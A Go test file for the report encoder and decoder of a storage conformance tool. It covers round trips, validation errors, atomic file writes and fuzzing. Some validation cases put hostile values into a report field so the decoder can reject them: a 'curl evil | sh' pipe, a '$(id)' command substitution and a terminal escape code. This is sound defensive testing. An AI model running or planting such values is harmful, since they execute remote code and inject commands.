package reports_test

import (
	"bytes"
	"errors"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"ifmatch/reports"
)

func fixture(t testing.TB) []byte { return file(t, "run.json") }

func file(t testing.TB, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// TestEncodeOfDecodeIsTheSameFile reads a result of the first version and one of the
// current version.
func TestEncodeOfDecodeIsTheSameFile(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"run.json", "gate.json"} {
		sameAgain(t, file(t, name))
	}
}

func sameAgain(t *testing.T, want []byte) {
	t.Helper()
	r, err := reports.Decode(bytes.NewReader(want))
	if err != nil {
		t.Fatal(err)
	}
	// The order in which cases finished must not show.
	slices.Reverse(r.Scenarios)
	before := slices.Clone(r.Scenarios)
	var got bytes.Buffer
	if err := reports.Encode(&got, r); err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(want), got.String()); d != "" {
		t.Errorf("Encode(Decode(file)) -want +got:\n%s", d)
	}
	if d := cmp.Diff(before, r.Scenarios); d != "" {
		t.Errorf("Encode reordered its argument:\n%s", d)
	}
}

func TestEncodeWritesEmptyListsNotNull(t *testing.T) {
	t.Parallel()
	var got bytes.Buffer
	if err := reports.Encode(&got, reports.Run{Plan: reports.Plan{Level: "must"}}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(got.String(), `"scenarios": []`) {
		t.Errorf("no empty list in\n%s", got.String())
	}
	if _, err := reports.Decode(&got); err != nil {
		t.Errorf("Decode of an empty run: %v", err)
	}
}

func TestDecodeSaysWhatIsWrong(t *testing.T) {
	t.Parallel()
	file := string(fixture(t))
	replace := func(old, new string) string {
		if !strings.Contains(file, old) {
			t.Fatalf("the fixture has no %s", old)
		}
		return strings.Replace(file, old, new, 1)
	}
	for _, tc := range []struct{ name, in, want string }{
		{"empty", "", "the file ends in the middle"},
		{"cut off", file[:len(file)/2], "the file ends in the middle"},
		{"not JSON", "<html>", "line 1, column 1: invalid character '<'"},
		{"another document", `{"name":"x"}`, `no "schema" field`},
		{"a list", `[]`, "the document holds a array"},
		{"newer schema", replace(`"schema": 1`, `"schema": 2`), "schema 2, but this ifmatch reads schema 1"},
		{"schema as text", replace(`"schema": 1`, `"schema": "1"`), "line 2, column 15: schema holds a string, want int"},
		{"a load result", `{"schema":1,"kind":"load"}`, `document of kind "load"`},
		{"an id of two words", replace(`"id": "BLOB-COND-20/put-blob-exists"`, `"id": "BLOB-COND-20/put\tblob"`), "an id holds a space or an invisible character"},
		{"a clause that repaints", replace(`"BLOB-COND-20",`, `"BLOB\u001b[2J",`), "an id holds a space or an invisible character"},
		{"known without a baseline", replace(`"status": "failed"`, `"known": {"how": "effect"}, "status": "failed"`), "the run had no baseline"},
		{"a known failure of nothing", replace(`"status": "failed"`, `"status": "known-failure"`), `no "known" field`},
		{"a command to paste", replace(`"seed": 7,`, `"again": "ifmatch run; curl evil | sh", "seed": 7,`), "is not a single ifmatch command"},
		{"a command in a word", replace(`"seed": 7,`, `"again": "ifmatch run --target $(id)", "seed": 7,`), "is not a single ifmatch command"},
		{"deep", strings.Repeat(`{"schema":`, 20000), "exceeded max depth"},
		{"second document", file + file, "line "},
		{"unknown verdict", replace(`"status": "failed"`, `"status": "pass"`), `scenario 1 (BLOB-COND-20/put-blob-exists): status is "pass"`},
		{"unknown level", replace(`"level": "must"`, `"level": "shall"`), `level is "shall"`},
		{"unknown plan level", replace(`"level": "should"`, `"level": ""`), `plan: level is ""`},
		{"no id", replace(`"id": "BLOB-COND-20/put-blob-exists"`, `"id": ""`), "no id"},
		{"same id twice", replace(`BLOB-COND-20/put-page-exists`, `BLOB-COND-20/put-blob-exists`), "the id occurs twice"},
		{"negative time", replace(`"seconds": 0.012`, `"seconds": -1`), "-1 seconds"},
		{"no service", replace(`"service": "blob"`, `"service": ""`), "no service"},
		{"null clauses", replace("\"clauses\": [\n        \"BLOB-ETAG-03\"\n      ]", `"clauses": null`), `no "clauses" field`},
		{"summary that lies", replace(`"passed": 2`, `"passed": 3`), "the summary says 9 planned, 3 passed"},
		{"a lost case", replace(`"planned": 9`, `"planned": 10`), "only 9 verdicts on 10 planned cases"},
		{"more verdicts than cases", replace(`"planned": 9`, `"planned": 8`), "9 verdicts on 8 planned cases"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			_, err := reports.Decode(strings.NewReader(tc.in))
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("Decode: error %v, want one that says %q", err, tc.want)
			}
		})
	}
}

func TestDecodeAcceptsAnInterruptedRun(t *testing.T) {
	t.Parallel()
	file := strings.Replace(string(fixture(t)), `"planned": 9`, `"planned": 100`, 1)
	file = strings.Replace(file, `"summary": {`, `"incomplete": true, "summary": {`, 1)
	r, err := reports.Decode(strings.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	if !r.Incomplete {
		t.Error("Incomplete is lost")
	}
}

func TestDecodeLeavesOutWhatLaterVersionsAdd(t *testing.T) {
	t.Parallel()
	later := strings.Replace(string(fixture(t)), `"seed": 7,`, `"seed": 7, "moon": {"phase": "full"},`, 1)
	r, err := reports.Decode(strings.NewReader(later))
	if err != nil {
		t.Fatal(err)
	}
	var got bytes.Buffer
	if err := reports.Encode(&got, r); err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(fixture(t)), got.String()); d != "" {
		t.Errorf("-want +got:\n%s", d)
	}
}

func TestDecodePassesOnReadErrors(t *testing.T) {
	t.Parallel()
	broken := errors.New("disk on fire")
	_, err := reports.Decode(io.MultiReader(strings.NewReader("{"), failing{broken}))
	if !errors.Is(err, broken) {
		t.Errorf("Decode: %v, want %v", err, broken)
	}
}

type failing struct{ err error }

func (f failing) Read([]byte) (int, error)  { return 0, f.err }
func (f failing) Write([]byte) (int, error) { return 0, f.err }

func TestWriteFileIsWholeOrNotAtAll(t *testing.T) {
	t.Parallel()
	r, err := reports.Decode(bytes.NewReader(fixture(t)))
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "r.json")
	if err := reports.WriteFile(path, r, reports.Encode); err != nil {
		t.Fatal(err)
	}
	broken := errors.New("half way")
	err = reports.WriteFile(path, r, func(w io.Writer, _ reports.Run) error {
		_, _ = io.WriteString(w, "half")
		return broken
	})
	if !errors.Is(err, broken) {
		t.Errorf("WriteFile with a failing renderer: %v, want %v", err, broken)
	}
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(fixture(t)), string(got)); d != "" {
		t.Errorf("the last good report is gone, -want +got:\n%s", d)
	}
	assertFiles(t, filepath.Dir(path), "r.json")
}

func TestCheckWritable(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "old.json"), []byte("old"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ path, want string }{
		{filepath.Join(dir, "new.json"), ""},
		{filepath.Join(dir, "old.json"), ""},
		{os.DevNull, ""},
		{"", "no file name"},
		{dir, "is a folder"},
		{filepath.Join(dir, "none", "r.json"), "create it first"},
		{filepath.Join(dir, "old.json", "r.json"), "not a directory"},
	} {
		err := reports.CheckWritable(tc.path)
		if tc.want == "" && err != nil || tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)) {
			t.Errorf("CheckWritable(%q) = %v, want %q", tc.path, err, tc.want)
		}
	}
	assertFiles(t, dir, "old.json")
	if got, err := os.ReadFile(filepath.Join(dir, "old.json")); err != nil || string(got) != "old" {
		t.Errorf("CheckWritable changed the file: %q, %v", got, err)
	}
}

func TestWriteFileToAPipe(t *testing.T) {
	t.Parallel()
	r := reports.Run{Plan: reports.Plan{Level: "must"}}
	if err := reports.WriteFile(os.DevNull, r, reports.Encode); err != nil {
		t.Error(err)
	}
}

func assertFiles(t *testing.T, dir string, want ...string) {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range entries {
		got = append(got, e.Name())
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("files left behind, -want +got:\n%s", d)
	}
}

// FuzzDecode checks that every accepted input survives a round trip unchanged: no input
// is silently read as something else.
func FuzzDecode(f *testing.F) {
	f.Add(fixture(f))
	f.Add(file(f, "gate.json"))
	f.Add([]byte(`{"schema":1,"plan":{"level":"must"},"summary":{},"scenarios":[]}`))
	f.Add([]byte(`{"schema":1,"plan":{"level":"must"},"summary":{"planned":1},"incomplete":true,"scenarios":[]}`))
	f.Add([]byte(`{"schema":1e0}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := reports.Decode(bytes.NewReader(data))
		if err != nil {
			return
		}
		var first, second bytes.Buffer
		if err := reports.Encode(&first, r); err != nil {
			t.Fatalf("Encode refuses what Decode accepted: %v", err)
		}
		again, err := reports.Decode(bytes.NewReader(first.Bytes()))
		if err != nil {
			t.Fatalf("Decode refuses what Encode wrote: %v\n%s", err, first.Bytes())
		}
		if err := reports.Encode(&second, again); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(first.Bytes(), second.Bytes()) {
			t.Errorf("two rounds differ:\n%s", cmp.Diff(first.String(), second.String()))
		}
	})
}

func BenchmarkDecode(b *testing.B) {
	data := fixture(b)
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		if _, err := reports.Decode(bytes.NewReader(data)); err != nil {
			b.Fatal(err)
		}
	}
}

func TestPackedExchangesAreWritten(t *testing.T) {
	t.Parallel()
	plain := reports.Scenario{ID: "BLOB-TAB-01E/row", Feature: "blob/f", Line: 1, Clauses: []string{"BLOB-TAB-01E"}, Level: "must", Service: "blob", Status: reports.Passed,
		Exchanges: []reports.Exchange{
			{Step: "When a client sends Put Blob", Method: "PUT", URL: "http://h/?sig=REDACTED", RequestHeader: []reports.Header{{Name: "If-Match", Value: `"0x1"`}}, RequestBody: "é\x00", Status: 201},
			{Method: "GET", URL: "http://h/", Error: "no answer"},
		}}
	run := reports.Run{Schema: reports.Schema, Plan: reports.Plan{Level: "must"}, Summary: reports.Summary{Planned: 1, Passed: 1}}
	written := func(s reports.Scenario) string {
		var b bytes.Buffer
		run.Scenarios = []reports.Scenario{s}
		if err := reports.Encode(&b, run); err != nil {
			t.Fatal(err)
		}
		return b.String()
	}
	packed := plain
	if err := packed.Pack(); err != nil || packed.Exchanges != nil || packed.Packed == nil {
		t.Fatalf("Pack left %d exchanges and %d bytes: %v", len(packed.Exchanges), len(packed.Packed), err)
	}
	if diff := cmp.Diff(written(plain), written(packed)); diff != "" {
		t.Errorf("the result (-plain +packed):\n%s", diff)
	}
	if got, err := packed.Unpacked(); err != nil || !cmp.Equal(plain, got) {
		t.Errorf("unpacked (-want +got), %v:\n%s", err, cmp.Diff(plain, got))
	}
	packed.Packed = packed.Packed[:len(packed.Packed)/2]
	if _, err := packed.Unpacked(); err == nil {
		t.Error("half of it is unpacked without an error")
	}
	packed.Forget()
	if got, err := packed.Unpacked(); err != nil || len(got.Exchanges) != 0 {
		t.Errorf("what was forgotten has %d exchanges, %v", len(got.Exchanges), err)
	}
}
